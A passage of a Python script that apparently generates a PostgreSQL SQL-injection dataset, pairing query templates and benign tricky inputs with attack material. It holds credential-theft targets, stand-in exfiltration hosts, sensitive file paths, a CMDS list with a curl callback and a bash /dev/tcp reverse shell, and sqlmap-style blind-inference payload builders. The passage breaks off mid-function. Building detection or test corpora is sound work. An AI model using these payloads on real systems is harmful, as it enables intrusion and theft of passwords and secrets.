 ("t18_tsdb_cagg_policy", "SELECT add_continuous_aggregate_policy('geyser_hourly', start_offset => INTERVAL '{a}', end_offset => INTERVAL '{b}', schedule_interval => INTERVAL '1 hour')",
  {"a": S("q", ["3 days", "1 month"], "interval", ", end_offset => NULL, schedule_interval => NULL)"), "b": S("q", ["1 hour", "2 hours"], "interval", ", schedule_interval => NULL)")}),
 ("t18_tsdb_refresh", "CALL refresh_continuous_aggregate('geyser_hourly', '{a}', '{b}')",
  {"a": S("q", ["2025-05-01 00:00", "2026-01-01"], "ts", ", NULL)"), "b": S("q", ["2025-05-02 00:00", "2026-01-08"], "ts")}),
 ("t18_looker_eruptions", "SELECT eruptions.geyser_name AS \"eruptions.geyser_name\", COUNT(*) AS \"eruptions.count\" FROM public.eruptions AS eruptions WHERE (eruptions.erupted_at >= TIMESTAMP '{a}') AND eruptions.geyser_name = '{b}' GROUP BY 1 ORDER BY 2 DESC FETCH NEXT {c} ROWS ONLY",
  {"a": S("q", ["2025-06-01 00:00:00", "2024-09-15 06:00:00"], "ts"), "b": S("q", ["Strokkur", "Old Faithful"]), "c": S("n", ["500", "50"])}),
 ("t18_looker_gap_median", "SELECT geyser_name, percentile_disc(0.5) WITHIN GROUP (ORDER BY interval_min) AS median_gap FROM eruption_gaps WHERE basin = '{a}' GROUP BY geyser_name HAVING count(*) > {b}",
  {"a": S("q", ["Upper Geyser Basin", "Haukadalur"]), "b": S("n", ["10", "3"])}),
 ("t18_tsdb_compress", "SELECT compress_chunk(c, if_not_compressed => true) FROM show_chunks('eruption_obs', older_than => INTERVAL '{a}') c",
  {"a": S("q", ["7 days", "30 days"], "interval", ") c")}),
 # canyoning guides -- pg_cron job definitions and run history from an ops console
 ("t18_pgcron_schedule", "SELECT cron.schedule('{a}', '{b}', $$REFRESH MATERIALIZED VIEW CONCURRENTLY canyon_trip_stats$$)",
  {"a": S("q", ["trip-stats-refresh", "nightly_stats"], "", ", '0 3 * * *', 'SELECT 1')"), "b": S("q", ["*/30 * * * *", "0 3 * * *"], "cron", ", 'SELECT 1')")}),
 ("t18_pgcron_in_database", "SELECT cron.schedule_in_database('{a}', '{b}', $cron${c}$cron$, 'canyoning')",
  {"a": S("q", ["gear-purge", "waiver-archive"], "", ", '0 4 * * *', 'SELECT 1', 'canyoning')"), "b": S("q", ["0 4 * * *", "15 2 * * 1"], "cron", ", 'SELECT 1', 'canyoning')"),
   "c": S("d", ["CALL purge_gear_checkouts()", "VACUUM (ANALYZE) waivers"], "jobsql", ", 'canyoning')")}),
 ("t18_pgcron_unschedule", "SELECT cron.unschedule('{a}')",
  {"a": S("q", ["gear-purge", "nightly_stats"])}),
 ("t18_pgcron_run_details", "SELECT jobid, status, return_message, start_time FROM cron.job_run_details WHERE jobid = {a} AND status = '{b}' ORDER BY start_time DESC LIMIT {c}",
  {"a": S("n", ["14", "3"]), "b": S("q", ["failed", "succeeded"]), "c": S("n", ["20", "5"])}),
 ("t18_pgcron_guide_certs", "SELECT guide_id, name, rope_cert_until FROM canyon_guides WHERE rope_cert_until < '{a}'::date + {b} ORDER BY rope_cert_until",
  {"a": S("q", ["2025-09-01", "2026-03-15"], "date"), "b": S("n", ["30", "90"])}),
 # opal mine -- Citus distributed DDL, pg_stat_statements dashboards, connection-pool admin
 ("t18_citus_distribute", "SELECT create_distributed_table('{a}', '{b}', colocate_with => 'opal_parcels')",
  {"a": S("q", ["opal_finds", "claim_shifts"], "", ", 'claim_id')"), "b": S("q", ["claim_id", "parcel_id"], "", ")")}),
 ("t18_citus_shards", "SELECT nodename, nodeport, shardid, shard_size FROM citus_shards WHERE table_name = '{a}'::regclass AND shard_size > {b} ORDER BY shard_size DESC",
  {"a": S("q", ["opal_finds", "public.claim_shifts"]), "b": S("n", ["1048576", "0"])}),
 ("t18_pgss_dashboard", "SELECT queryid, calls, round(mean_exec_time::numeric, 2) AS mean_ms, left(query, 80) AS q FROM pg_stat_statements WHERE dbid = (SELECT oid FROM pg_database WHERE datname = '{a}') AND calls > {b} ORDER BY {c} DESC LIMIT {d}",
  {"a": S("q", ["opal_mine", "postgres"]), "b": S("n", ["100", "5"]), "c": S("col", ["mean_exec_time", "calls", "total_exec_time"]), "d": S("n", ["20", "50"])}),
 ("t18_pgss_reset", "SELECT pg_stat_statements_reset(0, 0, {a})",
  {"a": S("n", ["-8123371122938819102", "4417730001"])}),
 ("t18_citus_app_name", "SET SESSION application_name TO '{a}'",
  {"a": S("q", ["opal-scanner-3", "shift.report"], "appname")}),
 ("t18_citus_idle_terminate", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = '{a}' AND state = 'idle in transaction' AND state_change < now() - interval '{b}'",
  {"a": S("q", ["opal-scanner-3", "claims-api"], "appname"), "b": S("q", ["10 minutes", "1 hour"], "interval")}),
 # windmill restoration -- Kotlin Exposed exec("...") and Spring JdbcTemplate string building
 ("t18_exposed_sails", "SELECT sail_id, mill_id, cloth, span_m FROM sails WHERE mill_id = {a} AND cloth = '{b}'",
  {"a": S("n", ["17", "202"]), "b": S("q", ["patent shutters", "common sail cloth"])}),
 ("t18_exposed_cap_enum", "ALTER TYPE cap_style ADD VALUE IF NOT EXISTS '{a}'",
  {"a": S("q", ["ogee", "boat-shaped"])}),
 ("t18_exposed_rpm_domain", "CREATE DOMAIN {a}_rpm AS numeric(5,1) CHECK (VALUE BETWEEN 0 AND {b})",
  {"a": S("ident", ["stock", "windshaft"], "", "_rpm AS int"), "b": S("n", ["30", "120"])}),
 ("t18_jdbctpl_inspection_merge", "MERGE INTO mill_inspections AS t USING (VALUES ({a}, '{b}'::date, '{c}')) AS s(mill_id, inspected_on, verdict) ON t.mill_id = s.mill_id AND t.inspected_on = s.inspected_on WHEN MATCHED THEN UPDATE SET verdict = s.verdict WHEN NOT MATCHED THEN INSERT (mill_id, inspected_on, verdict) VALUES (s.mill_id, s.inspected_on, s.verdict)",
  {"a": S("n", ["17", "4"], "", ", NULL, NULL" + MERGE_CUT), "b": S("q", ["2025-05-20", "2024-10-02"], "date", ", NULL" + MERGE_CUT), "c": S("q", ["sound", "brake needs relining"], "", MERGE_CUT)}),
 ("t18_jdbctpl_gear_teeth", "SELECT wheel_id, teeth, material FROM gear_wheels WHERE mill_id = {a} ORDER BY teeth USING > LIMIT {b}",
  {"a": S("n", ["17", "5"]), "b": S("n", ["10", "3"])}),
 ("t18_jdbctpl_generated_kw", "ALTER TABLE mill_readings ADD COLUMN {a}_kw numeric GENERATED ALWAYS AS (torque_nm * rpm / {b}) STORED",
  {"a": S("ident", ["shaft", "stone"], "", "_kw int"), "b": S("n", ["9549", "9549.3"], "", ") STORED")}),
 # gelato lab -- a ksqlDB stream sunk into PostgreSQL by a JDBC sink, and Laravel DB::statement / DB::select
 ("t18_ksqlsink_upsert", "INSERT INTO \"GELATO_BATCH_TEMPS\" (\"BATCH_ID\",\"FLAVOUR\",\"TEMP_C\") VALUES ({a},'{b}',{c}) ON CONFLICT (\"BATCH_ID\") DO UPDATE SET \"FLAVOUR\"=EXCLUDED.\"FLAVOUR\",\"TEMP_C\"=EXCLUDED.\"TEMP_C\"",
  {"a": S("n", ["5501", "12"]), "b": S("q", ["pistachio di Bronte", "stracciatella"]), "c": S("n", ["-11.5", "-14"])}),
 ("t18_ksqlsink_topic_table", "CREATE TABLE IF NOT EXISTS \"{a}\" (\"ROWKEY\" text PRIMARY KEY, \"PAYLOAD\" jsonb)",
  {"a": S("qi", ["GELATO_BATCH_TEMPS", "freezer-alarms"], "", " (k int)")}),
 ("t18_laravel_base_enum", "CREATE TYPE {a}_base AS ENUM ('fior di latte', 'sorbetto', '{b}')",
  {"a": S("ident", ["gelato", "sorbet"], "", "_b AS ENUM ('x')"), "b": S("q", ["yoghurt", "vegan oat"])}),
 ("t18_laravel_lock_timeout", "SET LOCAL lock_timeout = '{a}'",
  {"a": S("q", ["3s", "500ms"], "duration")}),
 ("t18_laravel_recipes", "select * from \"recipes\" where \"flavour\" = '{a}' and \"sugar_pct\" <= {b} and \"deleted_at\" is null order by {c} {d}",
  {"a": S("q", ["hazelnut", "mango"]), "b": S("n", ["22", "18.5"]), "c": S("col", ["\"sugar_pct\"", "\"created_at\"", "\"flavour\""]), "d": S("dir", ["desc", "asc"])}),
 ("t18_laravel_tasting_purge", "WITH gone AS (DELETE FROM tasting_notes WHERE taster = '{a}' RETURNING note_id) SELECT count(*) FROM gone",
  {"a": S("q", ["Giulia", "panel B"], "", ") SELECT 1")}),
 ("t18_laravel_stock_take", "SELECT pg_advisory_xact_lock(4242); UPDATE freezer_stock SET tubs = tubs - {a} WHERE flavour = '{b}' RETURNING tubs",
  {"a": S("n", ["2", "12"]), "b": S("q", ["amarena", "salted caramel"])}),
]
# templates that replay a value the application stored earlier (second-order)
SECOND_ORDER = {"t18_sqlmodel_camels", "t18_retool_dives", "t18_laravel_tasting_purge", "t18_mbplus_cultures_apply"}
# columns an attacker adds to the SET list of an UPDATE template
SENSITIVE = {"t18_mbplus_vial_update": ["owner_lab", "deleted", "biosafety_level"], "t18_prefect_weigh_in": ["guide_id", "retired", "price_per_day"],
             "t18_retool_artifact_update": ["accession_owner", "sale_price", "public"], "t18_laravel_stock_take": ["unit_cost", "supplier_id"]}
TAG = "$cron$"
CLOSER = closers(TAG)
segments, edit = corpus_kit.slot_editing(CLOSER)

CANON = {"q": ["v", "", "O'Neill", "two words", "2030-01-31", "10%", "can't"], "e": ["v", "", "it's", "D:\\dye\\lot", "tab\there", "a\nb"],
         "d": ["v", "", "it's", "\"q\""], "qi": ["v", "He said \"no\"", "with space"], "n": ["7", "0", "-3", "2.75", "1200000", "0.5"],
         "list": ["7", "7, 8", "9,10,11", "1, 2, 3, 4"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "USING", "WITH", "NOTIFY", "TABLE", "DO", "RANGE", "GROUPS", "PARTITION", "IS", "EXECUTE", "MATCHED", "CHECK")
COND_CLAUSES = ("WHERE", "HAVING", "ON")
NO_EXPR_LEADS = ("COMMENT", "NOTIFY", "LISTEN", "SET", "CALL", "DO", "ALTER", "GRANT", "VACUUM", "ANALYZE", "LOCK", "CREATE", "COPY", "PREPARE",
                 "EXECUTE", "SAVEPOINT", "RELEASE", "DECLARE", "FETCH", "MOVE", "CLOSE", "REFRESH", "CLUSTER", "REINDEX", "RESET")
def row_shape(tpl, slot):
    return corpus_kit.slot_row_shape(globals(), tpl, slot)


def set_column(tpl, slot):
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    if len(toks) >= 2 and toks[-1] == ("O", "=") and toks[-2][0] in ("W", "Q"):
        pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
        m = re.search(r'("[^"]+"|[A-Za-z_]+)\s*=\s*\'?$', pre)
        return m.group(1) if m else None
    return None


@by_template
def slot_info(tpl, slot):
    return corpus_kit.slot_info(globals(), tpl, slot)


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Gwen O'Malley", "Bryn's Boatyard", "Kaʻiulani's Lagoon", "Ma'a Tetuanui", "D'Arcy Weavers", "O'Sullivan-Ngata", "Dún Laoghaire's pearls",
   "Lough Erne's narrowboat", "Sant'Agata gelato", "Ní Fhlaithearta", "Shea's Soap Co.", "Mo'orea Pearl Farm", "L'Aquila stonework", "Cap d'Antibes",
   "Ta'if Camel Club", "Qur'an school trek", "Jean-Luc d'Ormesson", "Rock 'n' Roll sorbet", "Children's Origami Table", "St Mary's west front",
   "Fo'c'sle deck", "O'Toole's windmill", "Hawai'i Volcanoes", "Llyn y Fan's ford", "Ó Cinnéide", "bird's-eye maple"],
 "input_plain": ["narrowboat", "butty", "lock flight", "tiller", "windlass", "weft", "warp", "bobbin", "cartoon", "selvedge", "spawn", "agar plate",
   "mycelium", "fruiting body", "grotesque", "lime mortar", "drip mould", "crane base", "valley fold", "squash fold", "nacre", "seeding", "longline",
   "keshi", "camel calf", "robot jockey", "llama", "pack saddle", "trailhead", "lye", "trace", "cure rack", "superfat", "wreck", "bottom time",
   "sidescan", "eruption", "sinter", "fumarole", "abseil", "jump pool", "rope bag", "opal", "potch", "noodling", "sail stock", "brake wheel",
   "fantail", "gelato", "overrun", "batch freezer", "stabiliser", "hazelnut paste"],
 "input_sql_words": ["Select Pearls Ltd", "Drop Zone Canyon", "Union Wharf", "Order of St Clare", "Table Mountain Llamas", "Insert Here Origami",
   "Update Mill Trust", "Delete Key Sorbet", "Group By The Sea", "Where Geysers Roar", "Having a Ball Soaps", "Between Locks", "Null Point Wrecks",
   "Case Study Tapestry", "Limit Break Camel", "Join Us Trekking", "Grant Mill Society", "Truncated Cone Mould", "Exec Suite Gelato", "Begin Again Yarns",
   "Commit Ltd", "Rollback Narrowboats", "sleep mode off", "Cast Stone Restorers", "Declare Your Dye", "Fetch the windlass", "Vacuum-packed spawn"],
 "input_url_email": ["https://narrowboat.example/boats/14?week=2025-W31", "lockkeeper@canalside.example", "https://tapestry.example/looms?studio=2",
   "spawn-orders@mycobank.example", "https://grotesques.example/survey/wells#north", "fold@origami-con.example", "pearls+export@lagoon.example",
   "https://camelrace.example/results?track=al-marmoom&season=2026", "treks@llama-cwm.example", "https://soap.example/rest/v1/rpc/soap_batches_for",
   "dives@wreck-survey.example", "https://geyser.example/looker/dashboards/12?basin=upper", "guides@canyon.example", "ops@opal-mine.example",
   "https://windmill-trust.example/mills/17", "gelato-lab@example.it", "sftp://ingest.geyser.example/obs/2025/"],
 "input_json_text": ["{\"palette\": {\"ground\": \"indigo\"}}", "{\"surface\": \"scree\", \"ford\": true}", "[4, 9, 16]", "{\"lustre\": \"high\", \"mm\": 9.5}",
   "{\"note\": \"it's \\\"ok\\\"\"}", "{}", "[]", "{\"heading\": 271, \"altitude_m\": 3.2}", "{\"a\": [1, {\"b\": null}]}", "{\"overrun_pct\": 25}",
   "{\"sails\": 4, \"cap\": \"ogee\"}", "[{\"strain\": \"PO-17\"}]", "{\"emoji\": \"\\ud83c\\udf66\"}"],
 "input_unicode": ["Llanfihangel-y-traethau", "Ōtautahi", "Øresund", "Ğazipaşa", "Čapek", "Þingvellir", "Strokkur — Haukadalur", "Āwhitu", "Rīga",
   "أبو ظبي", "الوثبة", "שלום", "Κρήτη", "Уфа", "漢字", "真珠", "ไข่มุก", "जलप्रपात", "மலை", "Ngā Tamariki", "Tuamotu ʻŌ", "Ångström", "o\u0308 combining",
   "🍨 pistachio", "🐪 race day", "🧼 bar", "Ɓ hooked", "Z\u200bW\u200bSP", "\u202eRTL override", "ﬁ ligature", "Ｏ＇Ｎｅｉｌｌ", "Dʼarcy Weavers", "O’Brien’s boat", "‘quoted’ sorbet", "＇＇ fullwidth pair"],
 "input_whitespace": ["  two leading", "trailing   ", "inner   gap", "tab\tseparated", "new\nline", "\ttab first", " ", "x \t y", "cr\r\nlf", "no\u00a0break",
   "    ", "thin\u2009space", "line end\n", "\u3000ideographic"],
 "input_numeric_string": ["08", "00", "2e2", "2.71828", "-7", "+1", "2,500", "19.99", "0b101", "10_000", "000042", "18446744073709551615", "-0.0", "6.02e23", "٤٢"],
 "input_punctuation": ["!?", "...", "a\\b", "100%", "#7", "F#", "(tbc)", "[draft]", "{?}", "a__b", "2*3", "@@", "~~", "5'11\"", "comma,semi;", "--", "/* */", "||",
   "^_^", "&&", "<>", "\"quoted\"", "``", "$1", "$$$", "£ 3.50", "¿qué?"],
 "input_formatted": ["NB-2025-0314", "51°52′N 1°17′W", "+44 1926 000 000", "2026-W07", "EN 14800:2007", "WL/31/2025", "PO-17-B", "v4.0.0-beta.3",
   "01:02:03.004", "9.5 mm ± 0.2", "CV37 6BB", "#2E8B57", "12×8 m", "Grade A–AAA"],
}
SENTS = ["Boat 14's stern gland leaks again; pack it before the Hatton flight on Saturday.", "Weft beaten too hard in section C -- the border is pulling in by 2 cm.",
         "Culture PO-17 contaminated with Trichoderma; discard and re-plate from the slant.", "The north porch grotesque lost its jaw in the frost; bag the fragments.",
         "Workshop 3 overran; the tessellation session moves to room B after lunch.", "Line 7 buoys need replacing before the cyclone season, check the ropes.",
         "Camel 22 pulled up lame after lap 2; vet says rest 14 days.", "Llama Dafydd refuses the ford when the water's high, lead him round by the bridge.",
         "Batch 88 seized in the pot (too much fragrance oil); rebatch it as laundry soap.", "Visibility 3 m on the wreck, strong current over the bow section.",
         "Strokkur's intervals lengthened overnight; the sensor on the west vent may be fouled.", "Rope at the third abseil is frayed -- retire it and log the serial.",
         "Potch only in drive 4 this week; move the crew to the old workings.", "The brake wheel cogs are worn; order new apple-wood teeth for the spring.",
         "Pistachio base overran at 32 %; reduce the air pump and check the stabiliser dose.", "select the best route -- drop the wet one from the list; update tomorrow."]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "date":
        return rdate(r, 2018, 2027), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2022, 2027), r.choice([" ", "T"]), r.randint(0, 23), r.randint(0, 59), r.choice(["", ":00", ":45", "+02", "-05:00"])), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 72), r.choice(["hours", "minutes", "days", "weeks"])), "%d:%02d:00" % (r.randint(0, 23), r.randint(0, 59)),
                         "P%dD" % r.randint(1, 30), "%d mins" % r.randint(1, 90), "%d days %d hours" % (r.randint(1, 9), r.randint(1, 23)), "1 mon"]), "input_formatted"
    if knd == "duration":
        return r.choice(["%ds" % r.randint(1, 60), "%dms" % r.choice([250, 800, 1500]), "%dmin" % r.randint(1, 5), str(r.choice([0, 1000, 30000]))]), "input_formatted"
    if knd == "jpath":
        return r.choice(["$.palette.ground", "$.palette.*", "$.size ? (@.w > %d)" % r.randint(50, 300), "$.weavers[%d]" % r.randint(0, 4), "lax $.deadline",
                         "$.threads.size()", "$.** ? (@ == \"indigo\")"]), "input_formatted"
    if knd == "jkey":
        return r.choice(["ground", "border", "accent", "surface", "ford", "gradient", "exposure"]), "input_plain"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["kami", "akira.y", "Lather", "b2b_orders", "paper.crane"]), r.choice(["", "+con", "-2"]), r.choice(["fold.example", "Example.ORG", "soap.example"])), "input_url_email"
    if knd == "appname":
        return r.choice(["opal-scanner-%d" % r.randint(1, 9), "claims-api", "shift.report", "pgbench", "retool/%d.%d" % (r.randint(2, 3), r.randint(0, 40))]), "input_formatted"
    if knd == "cron":
        return r.choice(["*/%d * * * *" % r.choice([5, 10, 15, 30]), "%d %d * * *" % (r.randint(0, 59), r.randint(0, 23)), "0 %d * * 1-5" % r.randint(0, 23),
                         "%d seconds" % r.randint(5, 59), "@daily", "30 2 1 * *"]), "input_formatted"
    if knd == "jobsql":
        return r.choice(["CALL purge_gear_checkouts()", "VACUUM (ANALYZE) waivers", "REFRESH MATERIALIZED VIEW canyon_trip_stats",
                         "DELETE FROM gear_checkouts WHERE returned_at < now() - interval '%d days'" % r.randint(30, 400),
                         "SELECT archive_waivers(%d)" % r.randint(2019, 2025), "ANALYZE canyon_guides"]), "input_sql_words"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("boat_customers", "email", "pw_hash", "skipper@narrowboat.example"), ("studio_accounts", "login", "password", "headweaver"),
        ("culture_users", "username", "api_key", "labmanager"), ("conservation_staff", "email", "passwd", "surveyor@grotesques.example"),
        ("con_attendees", "badge_name", "reset_token", "Crane Lady"), ("pearl_buyers", "buyer_code", "pin_hash", "HK-001"),
        ("stable_owners", "owner_login", "password_sha1", "alwathba"), ("trek_guides", "guide_login", "pass", "dafydd"),
        ("auth.users", "email", "encrypted_password", "admin@soap.example"), ("dive_team", "callsign", "pw", "mensun"),
        ("looker_users", "email", "api3_secret", "analyst@geyser.example"), ("cron.job", "jobname", "command", "gear-purge"),
        ("mine_payroll", "miner_id", "bank_account", "M-0007"), ("mill_trustees", "email", "password", "chair@windmill-trust.example"),
        ("lab_secrets", "name", "value", "SUPABASE_SERVICE_KEY")]
HOSTS = ["x18.oast.example", "leak18.dnsbin.example", "k.exfil-sink.example.net", "b18.interact.example", "n0.collab-hook.example"]
IPS = ["203.0.113.18", "198.51.100.180", "192.0.2.218", "203.0.113.81"]
FILES = ["/etc/passwd", "/etc/hosts", "/proc/self/cmdline", "/proc/self/mounts", "pg_hba.conf", "postgresql.conf", "global/pg_control", "PG_VERSION",
         "/root/.ssh/authorized_keys", "/var/lib/postgresql/.pgpass", "/etc/pgbouncer/userlist.txt", "/run/secrets/supabase_service_key",
         "/opt/retool/.env", "log/postgresql-Mon.log", "../../../etc/shadow"]
CMDS = ["id", "hostname -f", "uname -a", "printenv", "cat /etc/pgbouncer/userlist.txt", "curl -s http://x18.oast.example/$(id -u)",
        "bash -c 'bash -i >& /dev/tcp/203.0.113.18/4444 0>&1'", "dig +short $(hostname).leak18.dnsbin.example", "ls -la /var/lib/postgresql", "ps aux", "crontab -l"]
ROLES = ["postgres", "supabase_admin", "service_role", "cron_admin", "citus", "pg_write_server_files", "pg_read_server_files", "rds_superuser", "retool_rw"]
SECRET_EXPRS = ["(SELECT string_agg(rolname || ':' || coalesce(rolpassword, ''), ';') FROM pg_authid)", "(SELECT string_agg(command, ' | ') FROM cron.job)",
                "(SELECT array_agg(usename)::text FROM pg_user WHERE usesuper)", "(SELECT to_jsonb(t)::text FROM auth.users t LIMIT 1)",
                "(SELECT string_agg(query, ' ;; ') FROM pg_stat_statements)", "(SELECT string_agg(name || '=' || setting, ',') FROM pg_settings WHERE name LIKE 'ssl%')",
                "(SELECT value FROM lab_secrets WHERE name = 'SUPABASE_SERVICE_KEY')", "(SELECT string_agg(nodename, ',') FROM pg_dist_node)",
                "(SELECT string_agg(lanname, ',') FROM pg_language WHERE NOT lanpltrusted)", "current_setting('request.jwt.claims', true)",
                "(SELECT string_agg(extname || ' ' || extversion, ',') FROM pg_extension)", "pg_read_file('pg_hba.conf')"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    t, u, p, who = loot(r)
    return r.choice(["current_user", "session_user", "version()", "current_database()", "current_setting('config_file')", "current_setting('hba_file')",
                     "current_setting('cluster_name')", "pg_postmaster_start_time()::text", "inet_server_addr()::text", "pg_current_wal_lsn()::text",
                     "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), "(SELECT %s FROM %s ORDER BY 1 LIMIT 1 OFFSET %d)" % (p, t, r.randint(0, 9)),
                     "(SELECT array_agg(%s)::text FROM %s)" % (p, t), "(SELECT to_jsonb(z)::text FROM %s z LIMIT 1)" % t] + [r.choice(SECRET_EXPRS)] * 4)


def probe_named(r, e=None):
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 40)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789_")
    return r.choice([
        ("get_byte_gt", "get_byte(convert_to(%s, 'UTF8'), %d) > %d" % (x, pos - 1, r.randint(40, 120))), ("md5_prefix", "left(md5(%s), 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("split_part_eq", "split_part(%s, ':', 1) = '%s'" % (x, r.choice(ROLES))), ("translate_len", "length(translate(%s, '%s', '')) < length(%s)" % (x, ch, x)),
        ("to_hex_ascii", "to_hex(ascii(substr(%s, %d, 1))) > '%x'" % (x, pos, r.randint(48, 122))), ("similar_to_prefix", "%s SIMILAR TO '%s%%'" % (x, ch)),
        ("array_position", "array_position(string_to_array(%s, NULL), '%s') = %d" % (x, ch, pos)), ("starts_with_fn", "starts_with(%s, '%s')" % (x, ch)),
        ("bit_length_gt", "bit_length(%s) > %d" % (x, pos * 8)), ("overlay_cmp", "overlay(%s placing '' from 1 for %d) > '%s'" % (x, pos, ch)),
        ("regexp_count_gt", "regexp_count(%s, '%s') > %d" % (x, ch, r.randint(0, 3))), ("xmlexists_probe", "xmlexists('//x[text()=\"%s\"]' PASSING BY VALUE xmlelement(name x, left(%s, 1)))" % (ch, x)),
        ("jsonb_path_probe", "jsonb_path_exists(to_jsonb(%s), '$ ? (@ starts with \"%s\")')" % (x, ch)), ("numrange_len", "numrange(0, %d) @> length(%s)::numeric" % (pos, x))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: PostgreSQL tests, boundaries, switches and tampers
def delimiter(r):
    """kb.chars start/stop: q, three letters of sqlmap's low-frequency alphabet, q."""
    return "q%sq" % "".join(r.choice("zqxjkvbp") for _ in range(3))


DUMP = {"boat_customers": ["email", "pw_hash", "phone"], "studio_accounts": ["login", "password"], "culture_users": ["username", "api_key", "lab"],
        "pearl_buyers": ["buyer_code", "pin_hash", "credit_limit"], "stable_owners": ["owner_login", "password_sha1"], "trek_guides": ["guide_login", "pass", "iban"],
        "dive_team": ["callsign", "pw"], "looker_users": ["email", "api3_secret"], "mine_payroll": ["miner_id", "bank_account", "tax_no"],
        "mill_trustees": ["email", "password", "role"], "lab_secrets": ["name", "value"]}
GUESS_TABLES = ["users", "admin", "staff", "accounts", "credentials", "tokens", "api_keys", "auth.users", "cron.job", "secrets", "customers", "employees"]
GUESS_COLUMNS = ["password", "passwd", "pass", "pwd", "token", "api_key", "secret", "hash", "email", "login"]


class Enc:
    """How a request spells strings and casts: CHR() by default, quotes under --no-escape, bare columns under --no-cast."""

    def __init__(self, r):
        x = r.random()
        self.switch = "--no-escape" if x < 0.2 else "--no-cast" if x < 0.32 else ""

    def s(self, v):
        return q(v) if self.switch == "--no-escape" else chrs(v)

    def cast(self, col):
        return col if self.switch == "--no-cast" else "COALESCE(CAST(%s AS VARCHAR(10000))::text,%s)" % (col, self.s(" "))


def enumeration(r, o):
    """(scalar query, switch) of sqlmap's enumeration, weighted to switches the earlier files sent least:
    --schema, --search, --common-columns, --hostname, --is-dba, --roles, --count and --dump of this file's tables."""
    tbl = r.choice(sorted(DUMP))
    cols = DUMP[tbl]
    n = r.randint(0, 30)
    k = r.randrange(16)
    if k == 0:
        return "(SELECT %s)" % o.cast("INET_SERVER_ADDR()"), "--hostname"
    if k == 1:
        return "(SELECT usesuper=true FROM pg_user WHERE usename=CURRENT_USER OFFSET 0 LIMIT 1)", "--is-dba"
    if k == 2:
        return "(SELECT COUNT(DISTINCT(nspname)) FROM pg_namespace)", "--schema (count)"
    if k == 3:
        return "(SELECT DISTINCT(%s) FROM pg_namespace OFFSET %d LIMIT 1)" % (o.cast("nspname"), n % 8), "--schema"
    if k == 4:
        c = r.choice(GUESS_COLUMNS)
        return ("(SELECT %s FROM pg_attribute a JOIN pg_class c ON a.attrelid=c.oid WHERE a.attname LIKE %s OFFSET %d LIMIT 1)"
                % (o.cast("c.relname"), o.s("%" + c + "%"), n % 5)), "--search -C %s" % c
    if k == 5:
        return "(SELECT COUNT(*) FROM pg_tables WHERE tablename LIKE %s)" % o.s("%" + rword(r, 3) + "%"), "--search -T (count)"
    if k == 6:
        return "(SELECT %s FROM pg_user WHERE usename=%s)" % (o.cast("usecreatedb"), o.s(r.choice(ROLES))), "--roles -U %s" % r.choice(ROLES)
    if k == 7:
        return "(SELECT COUNT(*) FROM pg_roles WHERE rolsuper)", "--roles (count)"
    if k in (8, 9, 10):
        c = r.choice(cols)
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], n), "--dump -T %s -C %s" % (tbl, c)
    if k == 11:
        return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count -T %s" % tbl
    if k == 12:
        return "(SELECT %s FROM pg_database OFFSET %d LIMIT 1)" % (o.cast("datname"), n % 4), "--dbs"
    if k == 13:
        return "(SELECT %s FROM cron.job OFFSET %d LIMIT 1)" % (o.cast("command"), n % 3), "--sql-query (cron.job)"
    if k == 14:
        return "(SELECT %s FROM pg_authid WHERE rolcanlogin OFFSET %d LIMIT 1)" % (o.cast("rolpassword"), n % 4), "--sql-query (pg_authid)"
    return "(SELECT %s)" % o.cast("CURRENT_SETTING(%s)" % o.s(r.choice(["server_version", "hba_file", "shared_preload_libraries", "cluster_name"]))), "--sql-query (settings)"


def inference(r, o):
    x = r.random()
    if x < 0.05:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(GUESS_TABLES)), "--common-tables"
    if x < 0.1:
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(GUESS_COLUMNS), r.choice(sorted(DUMP))), "--common-columns"
    e, sw = enumeration(r, o)
    sw = (sw + " " + o.switch).strip()
    if x < 0.74:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 46, 45, 58])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 48), r.choice(bisection(v))), sw
    if x < 0.9:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 3), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 30), r.randint(33, 122)), sw + " (validation)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced.
    Weighted to the tests make_seventeenth.py left out."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    SLEEP = r.choice([5, 5, 5, 4, 7, 10])
    o = Enc(r)
    D1, D2 = o.s(delimiter(r)), o.s(delimiter(r))
    if vector:
        INF, sw = inference(r, o)
        QRY, qsw = enumeration(r, o)
